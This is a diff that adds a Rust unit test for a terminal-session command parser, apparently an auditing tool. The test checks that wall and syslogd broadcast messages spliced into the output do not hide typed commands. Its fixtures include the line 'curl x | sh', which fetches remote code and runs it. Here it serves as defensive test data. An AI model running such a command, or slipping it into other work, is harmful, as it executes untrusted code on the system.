@@ -419,3 +419,13 @@ fn a_message_to_all_users_is_no_part_of_the_line_it_is_printed_into() {
     let session = format!("$ id\r\r\n0\r\r\n$ wall hi\r\r\n{wall}$ ls\r\r\n");
     assert_eq!(commands(session.as_bytes()), executed(&["id", "wall hi", "ls"]));
 }
+
+#[test]
+fn no_message_hides_what_is_typed_around_it() {
+    // A quote may hold what looks like one.
+    let quote = "\x1b[0m\x1b[27m\x1b[24m\x1b[Jweb# \x1b[K\x1b[?2004hecho '\r\nBroadcast message from a@b (x) (y):\r\n\r\n'; curl x | sh\x1b[?2004l\r\r\n";
+    assert!(commands(quote.as_bytes())[0].0.contains("curl x | sh"));
+    // So may the output of a line that fills its row.
+    let output = "[a@b ~]$ id\r\n0\r\n[a@b ~]$ ./run aaaa\r\r\nMessage from syslogd@x at 10:00 ...\r\n x\r\n[a@b ~]$ curl x | sh\r\n[a@b ~]$ exit\r\n";
+    assert_eq!(commands(output.as_bytes()), executed(&["id", "./run aaaa", "curl x | sh", "exit"]));
+}
